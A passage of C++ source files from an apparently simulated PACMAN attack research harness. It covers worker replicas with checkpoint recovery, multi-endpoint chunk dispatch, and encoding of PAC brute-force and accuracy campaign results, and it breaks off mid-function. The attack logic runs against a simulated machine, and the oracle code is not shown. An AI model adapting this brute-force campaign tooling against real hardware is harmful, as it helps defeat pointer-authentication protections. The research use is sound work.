     *  fresh-provision mode). */
    uint64_t provisions() const { return provisions_; }

    /** The post-provisioning integrity fingerprint (0 when
     *  fingerprint verification is disabled or nothing is
     *  provisioned yet). */
    uint64_t provisionFingerprint() const { return provisionFp_; }

    /** The replica's oracle/machine (provisions on first access).
     *  Campaign code uses these between run() calls — e.g. to read
     *  ground truth; the supervisor owns them during run(). */
    attack::PacOracle &oracle();
    kernel::Machine &machine();

    /**
     * Chaos/test hook: corrupt the captured checkpoint so the next
     * restore reproduces a damaged replica — the ReplicaCorrupt
     * ladder path. Writes @p value over the guest word at @p va
     * *inside the checkpoint image* (the live machine is untouched
     * until restore). Requires snapshot mode.
     */
    void corruptCheckpointForTest(isa::Addr va, uint64_t value);

  private:
    struct Stack;

    void ensureProvisioned();
    void beginItem(const WorkRequest &req);
    void endItem();
    void onOpportunity();
    bool integrityOk();

    const ReplicaConfig cfg_;
    const SupervisionConfig sup_;
    std::unique_ptr<Stack> stack_;
    RecoveryStats recovery_;
    uint64_t provisions_ = 0;
    uint64_t provisionFp_ = 0;

    // Armed-watchdog state (valid between beginItem/endItem).
    uint64_t itemStartCycle_ = 0;
    double deadlineAt_ = 0; //!< CLOCK_MONOTONIC seconds; 0 = none
};

} // namespace pacman::runner

#endif // PACMAN_RUNNER_WORKER_HH
