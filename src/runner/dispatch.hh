/**
 * @file
 * Fault-tolerant multi-endpoint campaign dispatch (DESIGN.md §4i):
 * the network-facing sibling of the recovery ladder in worker.hh.
 *
 * An EndpointPool spreads campaign chunks across N pacman-oracled
 * endpoints. Chunks are idempotent pure functions of (config, chunk
 * index) — the payload an endpoint returns is byte-identical no
 * matter which endpoint computes it — so the pool is free to retry a
 * failed chunk anywhere without touching the campaign's determinism
 * contract: merged fingerprints stay bit-identical to a local run at
 * any --jobs count while endpoints flap (proven by the chaos-proxy
 * scenarios of bench/chaos_recovery).
 *
 * Failure handling per endpoint is a consecutive-failure circuit
 * breaker: after `breakerThreshold` back-to-back failures the
 * endpoint is marked open and skipped; once `probeAfterSeconds`
 * elapses the next dispatch that considers it sends a half-open PING
 * probe (short probe timeout) and either closes the breaker or keeps
 * it open for another cooldown. A draining server answers its PING
 * with "draining" and is treated as down for new dispatch, which is
 * how rolling restarts hand campaigns over to the surviving
 * endpoints.
 *
 * Per attempt, a chunk is bounded by `chunkDeadlineSeconds`
 * (poll-based read timeout — a wedged endpoint that accepted the
 * connection but never answers is detected within one deadline, never
 * blocked on forever) plus the client's connect/BUSY budgets. On
 * timeout, torn connection, CRC mismatch, or BUSY exhaustion the
 * connection is closed, the endpoint's failure count bumped, and the
 * chunk redispatched to the next healthy endpoint under exponential
 * backoff, up to `maxAttempts` total tries. Only when every endpoint
 * has been exhausted does dispatch give up, throwing a DispatchError
 * classified DispatchExhausted — the campaign then aborts
 * (CampaignAborted), with every completed chunk already journaled for
 * a bit-identical resume.
 */

#ifndef PACMAN_RUNNER_DISPATCH_HH
#define PACMAN_RUNNER_DISPATCH_HH

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "base/supervision.hh"
#include "runner/client.hh"

namespace pacman::runner
{

/** Failover/health knobs for a multi-endpoint campaign. */
struct DispatchConfig
{
    /** pacman-oracled endpoints (parseEndpoint() forms). At least
     *  one; order seeds the per-worker affinity rotation. */
    std::vector<std::string> endpoints;

    /** Per-attempt host deadline for one chunk's response; 0 = wait
     *  forever (single-endpoint legacy behaviour). */
    double chunkDeadlineSeconds = 0;

    /** TCP connect bound per attempt; 0 = OS default. */
    double connectTimeoutSeconds = 1.0;

    /** BUSY backoff budget per attempt; 0 = retry forever. */
    double busyDeadlineSeconds = 0;

    /** Consecutive failures that trip an endpoint's breaker open. */
    unsigned breakerThreshold = 3;

    /** Cooldown before an open breaker accepts a half-open probe. */
    double probeAfterSeconds = 0.25;

    /** Read/connect bound for half-open PING probes (kept short so
     *  probing a wedged endpoint stays cheap). */
    double probeTimeoutSeconds = 0.25;

    /** Total dispatch attempts per chunk across all endpoints;
     *  0 = max(4, 2 * endpoints). */
    unsigned maxAttempts = 0;

    /** Exponential inter-attempt backoff bounds (seconds). */
    double backoffMinSeconds = 0.005;
    double backoffMaxSeconds = 0.25;

    /** Resolved attempt budget. */
    unsigned
    effectiveMaxAttempts() const
    {
        if (maxAttempts != 0)
            return maxAttempts;
        const unsigned n = unsigned(endpoints.size());
        return 2 * n > 4 ? 2 * n : 4;
    }
};

/**
 * A dispatch failure, classified with the supervision taxonomy:
 * EndpointDown for one endpoint's failure (internal, also used by
 * probe bookkeeping), DispatchExhausted when the retry budget spent
 * every endpoint. What campaigns convert to CampaignAborted.
 */
struct DispatchError : WireError
{
    DispatchError(WorkerFaultKind k, const std::string &what)
        : WireError(what), kind(k)
    {
    }

    WorkerFaultKind kind;
};

/**
 * Shared failover state over N endpoints for one campaign: the
 * breaker array plus one lazily connected OracleClient per
 * (pool worker, endpoint). Health state is thread-safe; the
 * per-worker connections are not shared across workers (the pool
 * hands each worker slot its own row, same as the local campaign's
 * Worker slots).
 */
class EndpointPool
{
  public:
    /** @p workers is the campaign's effectiveJobs() count. */
    EndpointPool(const DispatchConfig &cfg, unsigned workers);
    ~EndpointPool();

    EndpointPool(const EndpointPool &) = delete;
    EndpointPool &operator=(const EndpointPool &) = delete;

    /**
     * Dispatch one encoded chunk request on behalf of pool worker
     * @p worker, failing over between endpoints as described in the
     * file comment. Returns the chunk_codec payload. Throws
     * DispatchError(DispatchExhausted) when the attempt budget spends
     * every endpoint.
     */
    std::string chunkPayload(unsigned worker,
                             const std::string &request_body);

    /** Merged operational counters (thread-safe snapshot). */
    DispatchStats stats() const;

    /** Endpoints whose breaker is currently closed. */
    unsigned healthyEndpoints() const;

    /** Whether endpoint @p index's breaker is open (tests). */
    bool breakerOpen(size_t index) const;

    const DispatchConfig &config() const { return cfg_; }

  private:
    struct Impl;

    const DispatchConfig cfg_;
    std::unique_ptr<Impl> impl_;
};

/**
 * Multi-endpoint remote campaign runners: the dispatcher is an
 * EndpointPool, everything else (journal, resume, merge, fingerprint)
 * is the shared campaign machinery. The result's `dispatch` counters
 * report the failovers the run survived.
 */
BruteForceCampaignResult
runBruteForceCampaignRemote(const BruteForceCampaignConfig &cfg,
                            const DispatchConfig &dispatch);

AccuracyCampaignResult
runAccuracyCampaignRemote(const AccuracyCampaignConfig &cfg,
                          const DispatchConfig &dispatch);

} // namespace pacman::runner

#endif // PACMAN_RUNNER_DISPATCH_HH
