#include "worker.hh"

#include <chrono>
#include <cstdlib>

#include "base/logging.hh"
#include "base/stats.hh"
#include "sim/fingerprint.hh"
#include "sim/snapshot.hh"

namespace pacman::runner
{

bool
snapshotReplicasDefault()
{
    static const bool disabled =
        std::getenv("PACMAN_DISABLE_SNAPSHOT") != nullptr;
    return !disabled;
}

namespace
{

double
monotonicSeconds()
{
    return std::chrono::duration<double>(
               std::chrono::steady_clock::now().time_since_epoch())
        .count();
}

} // anonymous namespace

/**
 * The worker's replica: a private machine stack. Construction
 * provisions it completely — boot (PAC keys drawn from the config's
 * machine seed), guest-program assembly, eviction-set build, target
 * binding, calibration — all under the boot stream, so the
 * post-provisioning state is a pure function of the configuration.
 */
struct Worker::Stack
{
    explicit Stack(const ReplicaConfig &cfg)
        : machine(cfg.machine), proc(machine), oracle(proc, cfg.oracle)
    {
        oracle.setTarget(cfg.target, cfg.modifier);
    }

    kernel::Machine machine;
    attack::AttackerProcess proc;
    attack::PacOracle oracle;
    std::optional<sim::ReplicaCheckpoint> checkpoint;
    std::optional<sim::FaultInjector> injector;
};

Worker::Worker(const ReplicaConfig &cfg, const SupervisionConfig &sup)
    : cfg_(cfg), sup_(sup)
{
    cfg_.faults.validate();
}

Worker::~Worker() = default;

void
Worker::ensureProvisioned()
{
    if (stack_)
        return;
    stack_ = std::make_unique<Stack>(cfg_);
    ++provisions_;
    if (cfg_.snapshot) {
        stack_->checkpoint.emplace(stack_->machine, stack_->oracle);
        provisionFp_ =
            sup_.verifyFingerprint
                ? sim::replicaFingerprint(stack_->machine, stack_->oracle)
                : 0;
    }
}

attack::PacOracle &
Worker::oracle()
{
    ensureProvisioned();
    return stack_->oracle;
}

kernel::Machine &
Worker::machine()
{
    ensureProvisioned();
    return stack_->machine;
}

void
Worker::beginItem(const WorkRequest &req)
{
    Stack &st = *stack_;

    // Detach the previous item's hook and injector before touching
    // any machine state; neither must observe the rewind.
    st.machine.setDisturbanceHook(nullptr);
    st.injector.reset();
    if (st.checkpoint)
        st.checkpoint->restore();
    if (req.rekeySeed) {
        st.machine.rekey(*req.rekeySeed);
        st.oracle.refreshLegitPointer();
    }
    st.machine.reseedRng(req.streamSeed);

    // Faults attach only after provisioning: set construction and
    // calibration run undisturbed, and the injector's own stream
    // keeps the replica a pure function of the item.
    if (cfg_.faults.enabled())
        st.injector.emplace(st.machine, cfg_.faults,
                            Random::deriveSeed(req.streamSeed,
                                               sim::FaultSeedStream));

    // Arm the watchdogs. The machine's disturbance slot has exactly
    // one consumer, so the supervisor owns it and forwards each
    // opportunity to the injector itself (never injector->attach());
    // budget checks therefore run first and observe the cycles any
    // previously injected wedge burned.
    itemStartCycle_ = st.machine.core().cycle();
    deadlineAt_ = sup_.budget.hostDeadlineSeconds > 0
                      ? monotonicSeconds() + sup_.budget.hostDeadlineSeconds
                      : 0;
    if (sup_.budget.maxGuestCycles > 0 || deadlineAt_ > 0 ||
        st.injector) {
        st.machine.setDisturbanceHook([this] { onOpportunity(); });
    }
}

void
Worker::endItem()
{
    // Disarm the watchdog; the injector stays constructed so
    // faultStats() reflects the attempt just finished.
    if (stack_)
        stack_->machine.setDisturbanceHook(nullptr);
    deadlineAt_ = 0;
}

void
Worker::onOpportunity()
{
    Stack &st = *stack_;
    if (sup_.budget.maxGuestCycles > 0) {
        const uint64_t used =
            st.machine.core().cycle() - itemStartCycle_;
        if (used > sup_.budget.maxGuestCycles) {
            throw WorkerError{
                WorkerFaultKind::Hang,
                strprintf("guest budget exhausted: %llu cycles used, "
                          "budget %llu",
                          (unsigned long long)used,
                          (unsigned long long)sup_.budget.maxGuestCycles)};
        }
    }
    if (deadlineAt_ > 0 && monotonicSeconds() > deadlineAt_) {
        throw WorkerError{
            WorkerFaultKind::Hang,
            strprintf("host deadline exceeded (%.3f s per attempt)",
                      sup_.budget.hostDeadlineSeconds)};
    }
    if (st.injector)
        st.injector->onOpportunity();
}

bool
Worker::integrityOk()
{
    Stack &st = *stack_;
    if (!st.checkpoint)
        return false; // nothing to rewind to — caller escalates
    st.machine.setDisturbanceHook(nullptr);
    st.injector.reset();
    st.checkpoint->restore();
    if (!sup_.verifyFingerprint)
        return true;
    ++recovery_.fingerprintChecks;
    if (!st.proc.verifyRoutines())
        return false;
    return sim::replicaFingerprint(st.machine, st.oracle) ==
           provisionFp_;
}

WorkOutcome
Worker::run(const WorkRequest &req, const WorkFn &fn)
{
    WorkOutcome out;
    std::optional<WorkerFaultKind> firstKind;
    std::string firstDetail;
    unsigned rung = 0; // 0 first try, 1 restore retry, 2 re-provision

    for (;;) {
        // The fresh-provision reference mode rebuilds per item.
        if (!cfg_.snapshot)
            stack_.reset();
        ensureProvisioned();
        try {
            beginItem(req);
            fn(stack_->oracle, stack_->machine);
            endItem();
            out.attempts = rung + 1;
            if (rung > 0) {
                // The failure cleared on a pure retry: transient,
                // unless integrity verification already pinned it on
                // the replica.
                const WorkerFaultKind resolved =
                    firstKind == WorkerFaultKind::ReplicaCorrupt
                        ? WorkerFaultKind::ReplicaCorrupt
                        : WorkerFaultKind::TransientFault;
                if (resolved == WorkerFaultKind::TransientFault)
                    ++recovery_.transientFaults;
                stack_->proc.notifyRecovery(resolved, rung);
            }
            return out;
        } catch (const WorkerError &err) {
            endItem();
            if (err.kind == WorkerFaultKind::Hang)
                ++recovery_.hangs;
            if (!firstKind) {
                firstKind = err.kind;
                firstDetail = err.detail;
            }

            if (rung == 0 && cfg_.snapshot) {
                // Rung 1: rewind the checkpoint; retry only if the
                // restored replica passes its integrity checks.
                rung = 1;
                ++recovery_.restoreRetries;
                if (integrityOk())
                    continue;
                ++recovery_.replicaCorruptions;
                firstKind = WorkerFaultKind::ReplicaCorrupt;
                firstDetail = strprintf(
                    "state fingerprint diverged from provisioning "
                    "(%016llx)",
                    (unsigned long long)provisionFp_);
                // fall through: a corrupt replica goes straight to
                // a full rebuild
            }
            if (rung <= 1) {
                // Rung 2: rebuild the whole stack from configuration.
                rung = 2;
                ++recovery_.reprovisions;
                stack_.reset();
                continue;
            }

            // Rung 3: the item failed a fresh replica too — give up
            // and report it for quarantine.
            ++recovery_.quarantines;
            out.completed = false;
            out.attempts = rung + 1;
            if (firstKind == WorkerFaultKind::ReplicaCorrupt)
                out.quarantined = WorkerFaultKind::ReplicaCorrupt;
            else if (err.kind == WorkerFaultKind::Hang)
                out.quarantined = WorkerFaultKind::Hang;
            else
                out.quarantined = WorkerFaultKind::PoisonedItem;
            out.detail = strprintf(
                "first: %s (%s); final: %s (%s)",
                workerFaultName(*firstKind), firstDetail.c_str(),
                workerFaultName(err.kind), err.detail.c_str());
            return out;
        }
    }
}

FaultStats
Worker::faultStats() const
{
    return (stack_ && stack_->injector) ? stack_->injector->stats()
                                        : FaultStats{};
}

void
Worker::corruptCheckpointForTest(isa::Addr va, uint64_t value)
{
    ensureProvisioned();
    PACMAN_ASSERT(stack_->checkpoint,
                  "corruptCheckpointForTest requires snapshot mode");
    // Damage the guest word, then recapture so the *checkpoint image*
    // carries the corruption — exactly what a torn or bit-flipped
    // snapshot would look like to the recovery ladder. The provision
    // fingerprint is deliberately left at its honest value.
    stack_->machine.mem().writeVirt64(va, value);
    stack_->checkpoint->capture();
}

} // namespace pacman::runner
