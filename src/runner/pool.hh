/**
 * @file
 * Deterministic fixed-size worker pool over an indexed item space.
 *
 * Work items [0, num_items) are grouped into fixed-size chunks and
 * handed out from a shared atomic cursor to `jobs` workers. Nothing a
 * worker computes may depend on *which* worker ran it or *when* it
 * ran — campaigns derive all randomness from (campaign_seed,
 * chunk_index) via Random::deriveSeed — so the per-chunk results are
 * a pure function of the chunk index and the merged output is
 * bit-identical at 1, 4, or 16 threads.
 *
 * Early exit is supported without breaking determinism: a chunk
 * callback may report a "hit" at an item index (e.g. the brute-forcer
 * found a matching PAC). The pool then skips chunks that start after
 * the lowest hit seen so far. Because the cutoff only ever moves
 * down, every chunk whose first item precedes the final cutoff is
 * guaranteed to have run to completion, and chunks after it are
 * excluded from the merge whether or not they happened to run — so
 * the merged result equals what one serial low-to-high sweep reports.
 */

#ifndef PACMAN_RUNNER_POOL_HH
#define PACMAN_RUNNER_POOL_HH

#include <cstdint>
#include <functional>
#include <optional>

namespace pacman::runner
{

/** Worker-pool sizing and work-handout granularity. */
struct PoolConfig
{
    /** Worker threads; 0 picks the host's hardware concurrency. */
    unsigned jobs = 1;

    /** Items per queue pop. Large enough to amortise per-chunk
     *  replica construction, small enough to load-balance. */
    uint64_t chunkSize = 256;
};

/** Resolve a jobs request (0 = hardware concurrency, never 0). */
unsigned effectiveJobs(unsigned jobs);

/** Number of chunks covering @p num_items at @p chunk_size. */
uint64_t chunkCount(uint64_t num_items, uint64_t chunk_size);

/** One chunk of the item space handed to a worker. */
struct Chunk
{
    uint64_t index;     //!< chunk number, 0-based
    uint64_t firstItem; //!< first item covered
    uint64_t lastItem;  //!< last item covered (inclusive)
};

/**
 * Chunk callback: process items [chunk.firstItem, chunk.lastItem] on
 * worker @p worker. Return the item index of the first hit if the
 * chunk wants to trigger early exit, std::nullopt otherwise.
 */
using ChunkFn =
    std::function<std::optional<uint64_t>(unsigned worker,
                                          const Chunk &chunk)>;

/** What the pool did; campaigns use firstHit to bound their merge. */
struct PoolOutcome
{
    uint64_t numChunks = 0;
    uint64_t chunksRun = 0;
    uint64_t chunksSkipped = 0;

    /** Lowest hit item across all chunks that ran, if any. */
    std::optional<uint64_t> firstHit;
};

/**
 * Run @p fn over every chunk of [0, num_items) on a pool of
 * cfg.jobs workers (inline on the calling thread when jobs == 1).
 */
PoolOutcome runChunked(const PoolConfig &cfg, uint64_t num_items,
                       const ChunkFn &fn);

} // namespace pacman::runner

#endif // PACMAN_RUNNER_POOL_HH
