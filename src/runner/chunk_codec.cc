#include "chunk_codec.hh"

#include <bit>
#include <cstdio>
#include <sstream>

#include "base/logging.hh"

namespace pacman::runner
{

namespace
{

/** Stream id for per-trial PAC-key rotation (accuracy campaigns):
 *  key draws must come from a stream distinct from the trial's main
 *  stream or the first jitter draws would correlate with the keys. */
constexpr uint64_t KeySeedStream = 0x4B65'7973ull; // "Keys"

// --- Chunk payload (de)serialization -------------------------------
//
// Payloads are line-oriented, one tagged line per embedded struct.
// Doubles travel as their 64-bit patterns in hex, so a decoded chunk
// merges bit-identical values — the resume and remote-dispatch
// determinism contracts depend on this, not on printf round-tripping.

std::string
encodeBfStats(const attack::BruteForceStats &s)
{
    return strprintf(
        "S %llu %llu %llu %llu %llu %llu %llu",
        s.found ? (unsigned long long)*s.found + 1 : 0ull,
        (unsigned long long)s.guessesTested,
        (unsigned long long)s.oracleQueries,
        (unsigned long long)s.cyclesSimulated,
        (unsigned long long)s.samplesTaken,
        (unsigned long long)s.escalations,
        (unsigned long long)s.candidateRetries);
}

bool
decodeBfStats(std::istringstream &in, attack::BruteForceStats &s)
{
    unsigned long long found1 = 0, g = 0, q = 0, c = 0, sm = 0, e = 0,
                       r = 0;
    if (!(in >> found1 >> g >> q >> c >> sm >> e >> r))
        return false;
    s = attack::BruteForceStats{};
    if (found1)
        s.found = uint16_t(found1 - 1);
    s.guessesTested = g;
    s.oracleQueries = q;
    s.cyclesSimulated = c;
    s.samplesTaken = sm;
    s.escalations = e;
    s.candidateRetries = r;
    return true;
}

std::string
encodeOracleStats(const attack::OracleStats &o)
{
    return strprintf("O %llu %llu %llu %llu %llu",
                     (unsigned long long)o.busyRetries,
                     (unsigned long long)o.disturbedQueries,
                     (unsigned long long)o.retriedQueries,
                     (unsigned long long)o.calibrations,
                     (unsigned long long)o.repairs);
}

bool
decodeOracleStats(std::istringstream &in, attack::OracleStats &o)
{
    o = attack::OracleStats{};
    return bool(in >> o.busyRetries >> o.disturbedQueries >>
                o.retriedQueries >> o.calibrations >> o.repairs);
}

std::string
encodeFaultStats(const FaultStats &f)
{
    return strprintf(
        "F %llu %llu %llu %llu %llu %llu %llu %llu %llu %llu %llu",
        (unsigned long long)f.contextSwitches,
        (unsigned long long)f.fullFlushes,
        (unsigned long long)f.partialFlushes,
        (unsigned long long)f.preemptions,
        (unsigned long long)f.preemptedCycles,
        (unsigned long long)f.timerStalls,
        (unsigned long long)f.timerSkews,
        (unsigned long long)f.jitterBursts,
        (unsigned long long)f.busyArms,
        (unsigned long long)f.migrations, (unsigned long long)f.hangs);
}

bool
decodeFaultStats(std::istringstream &in, FaultStats &f)
{
    f = FaultStats{};
    return bool(in >> f.contextSwitches >> f.fullFlushes >>
                f.partialFlushes >> f.preemptions >> f.preemptedCycles >>
                f.timerStalls >> f.timerSkews >> f.jitterBursts >>
                f.busyArms >> f.migrations >> f.hangs);
}

/** Samples in insertion order: mean() sums in that order, so
 *  preserving it keeps floating-point rounding identical on decode. */
std::string
encodeSamples(const SampleStat &s)
{
    std::string out = strprintf("D %llu",
                                (unsigned long long)s.count());
    for (double v : s.samples())
        out += strprintf(" %016llx",
                         (unsigned long long)std::bit_cast<uint64_t>(v));
    return out;
}

bool
decodeSamples(std::istringstream &in, SampleStat &s)
{
    unsigned long long n = 0;
    if (!(in >> n))
        return false;
    s.reset();
    for (unsigned long long i = 0; i < n; ++i) {
        std::string word;
        if (!(in >> word))
            return false;
        unsigned long long bits = 0;
        if (sscanf(word.c_str(), "%llx", &bits) != 1)
            return false;
        s.add(std::bit_cast<double>(uint64_t(bits)));
    }
    return true;
}

QuarantineRecord
makeQuarantineRecord(const char *campaign, uint64_t campaign_seed,
                     uint64_t chunk_index, uint64_t first_item,
                     uint64_t last_item, const WorkRequest &req,
                     const WorkOutcome &outcome)
{
    QuarantineRecord qr;
    qr.campaign = campaign;
    qr.campaignSeed = campaign_seed;
    qr.chunkIndex = chunk_index;
    qr.firstItem = first_item;
    qr.lastItem = last_item;
    qr.streamSeed = req.streamSeed;
    if (req.rekeySeed) {
        qr.rekeySeed = *req.rekeySeed;
        qr.hasRekey = true;
    }
    qr.kind = outcome.quarantined.value_or(
        WorkerFaultKind::PoisonedItem);
    qr.detail = outcome.detail;
    return qr;
}

} // anonymous namespace

attack::ResamplePolicy
resamplePolicy(const ReplicaConfig &cfg)
{
    attack::ResamplePolicy policy;
    policy.samples = cfg.samples;
    policy.maxSamples = cfg.maxSamples;
    policy.candidateRetries = cfg.candidateRetries;
    return policy;
}

std::string
encodeBfChunk(const BfChunkResult &r)
{
    std::string out = encodeBfStats(r.stats) + "\n" +
                      encodeOracleStats(r.oracle) + "\n" +
                      encodeFaultStats(r.faults) + "\n" +
                      encodeSamples(r.decisions) + "\n";
    if (r.quarantine)
        out += "Q " + r.quarantine->serialize() + "\n";
    return out;
}

bool
decodeBfChunk(const std::string &payload, BfChunkResult &r)
{
    r = BfChunkResult{};
    std::istringstream lines(payload);
    std::string line;
    bool s = false, o = false, f = false, d = false;
    while (std::getline(lines, line)) {
        std::istringstream in(line);
        std::string tag;
        if (!(in >> tag))
            continue;
        if (tag == "S")
            s = decodeBfStats(in, r.stats);
        else if (tag == "O")
            o = decodeOracleStats(in, r.oracle);
        else if (tag == "F")
            f = decodeFaultStats(in, r.faults);
        else if (tag == "D")
            d = decodeSamples(in, r.decisions);
        else if (tag == "Q") {
            std::string rest;
            std::getline(in, rest);
            if (!rest.empty() && rest.front() == ' ')
                rest.erase(0, 1);
            r.quarantine = QuarantineRecord::parse(rest);
            if (!r.quarantine)
                return false;
        }
    }
    return s && o && f && d;
}

std::string
encodeTrialChunk(const std::vector<TrialResult> &trials,
                 const Chunk &chunk)
{
    std::string out;
    for (uint64_t t = chunk.firstItem; t <= chunk.lastItem; ++t) {
        const TrialResult &r = trials[t - chunk.firstItem];
        out += strprintf("T %llu %u\n", (unsigned long long)t,
                         unsigned(r.verdict));
        out += encodeBfStats(r.stats) + "\n" +
               encodeOracleStats(r.oracle) + "\n" +
               encodeFaultStats(r.faults) + "\n";
        if (r.quarantine)
            out += "Q " + r.quarantine->serialize() + "\n";
    }
    return out;
}

bool
decodeTrialChunk(const std::string &payload,
                 std::vector<TrialResult> &trials, const Chunk &chunk)
{
    const uint64_t count = chunk.lastItem - chunk.firstItem + 1;
    if (trials.size() != count)
        trials.assign(count, TrialResult{});
    std::istringstream lines(payload);
    std::string line;
    TrialResult *cur = nullptr;
    uint64_t seen = 0;
    while (std::getline(lines, line)) {
        std::istringstream in(line);
        std::string tag;
        if (!(in >> tag))
            continue;
        if (tag == "T") {
            unsigned long long t = 0;
            unsigned v = 0;
            if (!(in >> t >> v) || t < chunk.firstItem ||
                t > chunk.lastItem ||
                v > unsigned(TrialVerdict::Quarantined))
                return false;
            cur = &trials[t - chunk.firstItem];
            *cur = TrialResult{};
            cur->verdict = TrialVerdict(v);
            ++seen;
        } else if (!cur) {
            return false;
        } else if (tag == "S") {
            if (!decodeBfStats(in, cur->stats))
                return false;
        } else if (tag == "O") {
            if (!decodeOracleStats(in, cur->oracle))
                return false;
        } else if (tag == "F") {
            if (!decodeFaultStats(in, cur->faults))
                return false;
        } else if (tag == "Q") {
            std::string rest;
            std::getline(in, rest);
            if (!rest.empty() && rest.front() == ' ')
                rest.erase(0, 1);
            cur->quarantine = QuarantineRecord::parse(rest);
            if (!cur->quarantine)
                return false;
        }
    }
    return seen == count;
}

std::string
executeBfChunk(Worker &w, const BruteForceCampaignConfig &cfg,
               const Chunk &chunk)
{
    BfChunkResult r;
    // Same provision seed on every replica (same PAC keys — they are
    // sweeping for the *same* PAC), per-chunk RNG stream from the
    // item's index.
    const WorkRequest req{chunk.index,
                          Random::deriveSeed(cfg.seed, chunk.index),
                          std::nullopt};
    const WorkOutcome oc = w.run(
        req, [&](attack::PacOracle &oracle, kernel::Machine &) {
            // Reset first: the recovery ladder may run this several
            // times for one chunk.
            r = BfChunkResult{};
            attack::PacBruteForcer forcer(oracle,
                                          resamplePolicy(cfg.replica));
            r.stats = forcer.search(
                uint16_t(cfg.first + chunk.firstItem),
                uint16_t(cfg.first + chunk.lastItem), &r.decisions);
            r.oracle = oracle.stats();
        });
    r.faults = w.faultStats();
    if (!oc.completed) {
        // No rung completed the chunk: drop the partial attempt's
        // statistics and quarantine it.
        r = BfChunkResult{};
        r.quarantine = makeQuarantineRecord(
            "bruteforce", cfg.seed, chunk.index,
            cfg.first + chunk.firstItem, cfg.first + chunk.lastItem,
            req, oc);
    }
    return encodeBfChunk(r);
}

std::string
executeAccuracyChunk(Worker &w, const AccuracyCampaignConfig &cfg,
                     const Chunk &chunk)
{
    std::vector<TrialResult> trials(chunk.lastItem - chunk.firstItem +
                                    1);
    for (uint64_t trial = chunk.firstItem; trial <= chunk.lastItem;
         ++trial) {
        // Fresh keys per trial — rekey from a dedicated key stream
        // (the checkpointed equivalent of a per-trial reboot) — then
        // the per-trial main stream.
        const uint64_t stream = Random::deriveSeed(cfg.seed, trial);
        const WorkRequest req{trial, stream,
                              Random::deriveSeed(stream, KeySeedStream)};
        TrialResult &r = trials[trial - chunk.firstItem];
        const WorkOutcome oc = w.run(
            req, [&](attack::PacOracle &oracle,
                     kernel::Machine &machine) {
                runAccuracyTrial(cfg, oracle, machine, r);
            });
        r.faults = w.faultStats();
        if (!oc.completed) {
            r = TrialResult{};
            r.verdict = TrialVerdict::Quarantined;
            r.quarantine = makeQuarantineRecord("accuracy", cfg.seed,
                                                chunk.index, trial,
                                                trial, req, oc);
        }
    }
    return encodeTrialChunk(trials, chunk);
}

void
runAccuracyTrial(const AccuracyCampaignConfig &cfg,
                 attack::PacOracle &oracle, kernel::Machine &machine,
                 TrialResult &r)
{
    r = TrialResult{};
    const auto sel =
        cfg.replica.oracle.kind == attack::GadgetKind::Data
            ? crypto::PacKeySelect::DA
            : crypto::PacKeySelect::IA;
    const uint16_t truth = machine.kernel().truePac(
        cfg.replica.target, cfg.replica.modifier, sel);

    uint16_t first = 0x0000, last = 0xFFFF;
    if (cfg.window != 0) {
        // Window placed from ground truth for scaling only; each
        // candidate is decided by the oracle.
        const uint32_t start = truth >= cfg.window / 2
                                   ? truth - cfg.window / 2
                                   : 0;
        first = uint16_t(start);
        last = uint16_t(
            std::min<uint32_t>(start + cfg.window - 1, 0xFFFF));
    }

    attack::PacBruteForcer forcer(oracle, resamplePolicy(cfg.replica));
    r.stats = forcer.search(first, last);
    r.oracle = oracle.stats();
    if (!r.stats.found)
        r.verdict = TrialVerdict::FalseNegative;
    else if (*r.stats.found == truth)
        r.verdict = TrialVerdict::TruePositive;
    else
        r.verdict = TrialVerdict::FalsePositive;
}

SupervisionConfig
replaySupervision(const SupervisionConfig &sup)
{
    SupervisionConfig replay = sup;
    replay.journalPath.clear();
    replay.quarantinePath.clear();
    replay.resume = false;
    replay.crashAfterAppends = 0;
    return replay;
}

} // namespace pacman::runner
