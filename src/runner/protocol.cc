#include "protocol.hh"

#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <bit>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstring>
#include <sstream>

#include "base/journal.hh"
#include "base/logging.hh"

namespace pacman::runner
{

namespace
{

constexpr char FrameMagic[4] = {'P', 'A', 'C', '1'};
constexpr size_t HeaderBytes = FrameHeaderBytes;

void
putU32(char *p, uint32_t v)
{
    p[0] = char(v & 0xFF);
    p[1] = char((v >> 8) & 0xFF);
    p[2] = char((v >> 16) & 0xFF);
    p[3] = char((v >> 24) & 0xFF);
}

uint32_t
getU32(const char *p)
{
    return uint32_t(uint8_t(p[0])) | uint32_t(uint8_t(p[1])) << 8 |
           uint32_t(uint8_t(p[2])) << 16 | uint32_t(uint8_t(p[3])) << 24;
}

std::string
hexBits(double v)
{
    return strprintf("%016llx",
                     (unsigned long long)std::bit_cast<uint64_t>(v));
}

bool
parseBits(std::istringstream &in, double &v)
{
    std::string word;
    if (!(in >> word))
        return false;
    unsigned long long bits = 0;
    if (sscanf(word.c_str(), "%llx", &bits) != 1)
        return false;
    v = std::bit_cast<double>(uint64_t(bits));
    return true;
}

bool
parseHex64(std::istringstream &in, uint64_t &v)
{
    std::string word;
    if (!(in >> word))
        return false;
    unsigned long long bits = 0;
    if (sscanf(word.c_str(), "%llx", &bits) != 1)
        return false;
    v = bits;
    return true;
}

} // anonymous namespace

void
writeBytes(int fd, const char *data, size_t len)
{
    // Sockets get MSG_NOSIGNAL so a torn peer raises EPIPE instead of
    // SIGPIPE — a library call must not depend on (or mutate) the
    // process's global signal disposition. Pipes reject the flag with
    // ENOTSOCK, so fall back to plain write(2) for them.
    bool is_socket = true;
    size_t off = 0;
    while (off < len) {
        const ssize_t n =
            is_socket ? ::send(fd, data + off, len - off, MSG_NOSIGNAL)
                      : ::write(fd, data + off, len - off);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            if (is_socket && errno == ENOTSOCK) {
                is_socket = false;
                continue;
            }
            throw WireError(strprintf("wire write failed: %s",
                                      std::strerror(errno)));
        }
        off += size_t(n);
    }
}

bool
readBytes(int fd, char *data, size_t len, double deadline_seconds)
{
    using Clock = std::chrono::steady_clock;
    const bool timed = deadline_seconds > 0;
    const Clock::time_point deadline =
        timed ? Clock::now() + std::chrono::duration_cast<Clock::duration>(
                                   std::chrono::duration<double>(
                                       deadline_seconds))
              : Clock::time_point{};
    size_t off = 0;
    while (off < len) {
        if (timed) {
            const auto remaining = deadline - Clock::now();
            const auto remaining_ms =
                std::chrono::duration_cast<std::chrono::milliseconds>(
                    remaining)
                    .count();
